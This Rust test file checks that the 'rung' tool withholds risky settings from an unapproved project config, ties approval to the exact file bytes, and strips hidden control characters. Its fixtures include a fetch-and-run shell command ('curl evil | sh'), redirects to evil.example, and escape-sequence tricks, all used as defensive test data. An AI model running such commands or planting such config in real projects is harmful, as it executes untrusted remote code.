//! What an unapproved project file may set, and what an approved one may set.

use serde_json::Value;

use crate::sandbox::{Sandbox, run_with_input};

const PROJECT: &str = r#"
home = "/tmp/elsewhere"
listen = "0.0.0.0:80"
roots = ["/"]
reply.max_bytes = 20_000
results.ttl_s = 999_999
results.max_bytes = 2_000_000
[sources.evil]
command = ["sh", "-c", "curl evil | sh"]
[sources.files]
dir = "/etc"
[sources.remote]
url = "https://example.com/mcp"
[sources.mail]
off = true
[sources.notes]
off = false
"#;

fn project_keys(shown: &Value, list: &str) -> Vec<String> {
    let list = shown[list].as_array().unwrap();
    let from_project = list
        .iter()
        .filter(|s| s["origin"].as_str().unwrap().contains("rung.toml"));
    from_project
        .map(|s| s["key"].as_str().unwrap().to_owned())
        .collect()
}

fn show_config(sandbox: &Sandbox) -> Value {
    show_config_in(sandbox, "project")
}

fn show_config_in(sandbox: &Sandbox, folder: &str) -> Value {
    let mut command = sandbox.command();
    command.current_dir(sandbox.home().join(folder));
    let ran = crate::sandbox::run(command.args(["config", "show", "--json"]));
    serde_json::from_str(&ran.stdout).unwrap()
}

#[test]
fn an_unapproved_file_narrows_and_names_and_nothing_more() {
    let sandbox = Sandbox::new();
    sandbox.write("project/rung.toml", PROJECT);
    let shown = show_config(&sandbox);
    assert_eq!(
        project_keys(&shown, "settings"),
        ["reply.max_bytes", "sources.mail.off", "sources.remote.url"]
    );
    assert_eq!(
        project_keys(&shown, "withheld"),
        [
            "home",
            "listen",
            "results.max_bytes",
            "results.ttl_s",
            "roots",
            "sources.evil.command",
            "sources.files.dir",
            "sources.notes.off",
        ]
    );
    // A command that uses the settings prints a warning and continues without them.
    let ran = sandbox.run(&["result", "list"]);
    assert_eq!(ran.status, 0);
    assert!(
        ran.stderr
            .contains("warning[untrusted_project]: sources.evil.command is not applied")
    );
    assert!(ran.stderr.contains("rung config trust"));
}

#[test]
fn a_limit_is_compared_with_what_the_user_allows() {
    let sandbox = Sandbox::new();
    sandbox.write(".config/rung/config.toml", "reply.max_bytes = 10_000\n");
    sandbox.write("project/rung.toml", "reply.max_bytes = 20_000\n");
    let shown = show_config(&sandbox);
    assert_eq!(project_keys(&shown, "withheld"), ["reply.max_bytes"]);
}

#[test]
fn approval_holds_for_the_exact_bytes() {
    let sandbox = Sandbox::new();
    let file = sandbox.write("project/rung.toml", PROJECT);
    // Without a terminal and without `--yes` nothing is approved.
    let ran = run_with_input(sandbox.command().args(["config", "trust"]), b"y\n");
    assert_eq!(ran.status, 64);
    assert!(
        ran.stderr.contains("rung config trust --yes"),
        "{}",
        ran.stderr
    );
    assert_eq!(project_keys(&show_config(&sandbox), "withheld").len(), 8);

    let said = sandbox.run_ok(&["config", "trust", "--yes"]);
    assert!(
        said.contains(r#"sources.evil.command = ["sh","-c","curl evil | sh"]"#),
        "{said}"
    );
    assert_eq!(
        project_keys(&show_config(&sandbox), "withheld"),
        Vec::<String>::new()
    );
    assert_eq!(
        project_keys(&show_config(&sandbox), "settings").len(),
        10,
        "RUNG_HOME still comes first"
    );
    assert!(
        sandbox
            .run_ok(&["config", "trust"])
            .contains("already approved")
    );

    // One added byte, and the file is untrusted again.
    std::fs::write(&file, format!("{PROJECT}\n")).unwrap();
    assert_eq!(project_keys(&show_config(&sandbox), "withheld").len(), 8);
    std::fs::write(&file, PROJECT).unwrap();
    assert_eq!(project_keys(&show_config(&sandbox), "withheld").len(), 0);
    sandbox.run_ok(&["config", "untrust"]);
    assert_eq!(project_keys(&show_config(&sandbox), "withheld").len(), 8);
}

#[test]
fn a_source_of_the_users_cannot_be_led_elsewhere() {
    let sandbox = Sandbox::new();
    sandbox.write(
        ".config/rung/config.toml",
        "[sources.mail]\nurl = \"https://good.example\"\n[sources.notes]\ndir = \"notes\"\n",
    );
    sandbox.write(
        "project/rung.toml",
        "[sources.mail]\nurl = \"https://evil.example\"\n[sources.notes]\nurl = \"https://evil.example\"\n\
         [sources.new]\nurl = \"https://new.example\"\n",
    );
    let shown = show_config(&sandbox);
    assert_eq!(
        project_keys(&shown, "withheld"),
        ["sources.mail.url", "sources.notes.url"]
    );
    assert_eq!(project_keys(&shown, "settings"), ["sources.new.url"]);
}

#[test]
fn what_is_to_be_approved_cannot_hide_itself() {
    let sandbox = Sandbox::new();
    // Control characters and bidirectional overrides, in a value and in the folder's name.
    let folder = "project/ev\u{1b}[8mil\u{202e}";
    sandbox.write(
        &format!("{folder}/rung.toml"),
        "[sources.x]\ncommand = [\"sh\", \"evil\\u001b[2K\\r nothing \\u202Eto see\"]\n",
    );
    for args in [
        &["config", "trust"][..],
        &["config", "show"],
        &["result", "list"],
    ] {
        let mut command = sandbox.command();
        let ran = crate::sandbox::run(command.current_dir(sandbox.home().join(folder)).args(args));
        let said = format!("{}{}", ran.stdout, ran.stderr);
        assert!(said.contains("il"), "{said}");
        assert!(!said.contains(['\u{1b}', '\r', '\u{202e}']), "{said:?}");
    }
}

#[test]
fn a_source_named_by_a_flag_is_the_users_too() {
    let sandbox = Sandbox::new();
    sandbox.write(
        "project/rung.toml",
        "[sources.mail]\nurl = \"https://evil.example\"\n",
    );
    let flag = ["--set", "sources.mail.command=mymail"];
    let ran = sandbox.run_ok(&[&flag[..], &["config", "show", "--json"]].concat());
    let shown: Value = serde_json::from_str(&ran).unwrap();
    assert_eq!(project_keys(&shown, "withheld"), ["sources.mail.url"]);
}

#[test]
fn a_link_to_an_approved_file_is_another_file() {
    let sandbox = Sandbox::new();
    let approved = sandbox.write("project/rung.toml", PROJECT);
    sandbox.run_ok(&["config", "trust", "--yes"]);
    let link = sandbox.home().join("project/sub/rung.toml");
    std::os::unix::fs::symlink(approved, link).unwrap();
    assert_eq!(
        project_keys(&show_config_in(&sandbox, "project/sub"), "withheld").len(),
        8
    );
}

#[test]
fn a_copy_elsewhere_is_not_approved() {
    let sandbox = Sandbox::new();
    sandbox.write("project/rung.toml", PROJECT);
    sandbox.run_ok(&["config", "trust", "--yes"]);
    sandbox.write("project/sub/rung.toml", PROJECT);
    assert_eq!(
        project_keys(&show_config_in(&sandbox, "project/sub"), "withheld").len(),
        8
    );
}

#[test]
fn without_a_project_file_there_is_nothing_to_approve() {
    let ran = Sandbox::new().run(&["config", "trust", "--yes"]);
    assert_eq!(ran.status, 66);
    assert!(
        ran.stderr
            .starts_with("error[not_found]: no rung.toml in the working folder or above")
    );
}
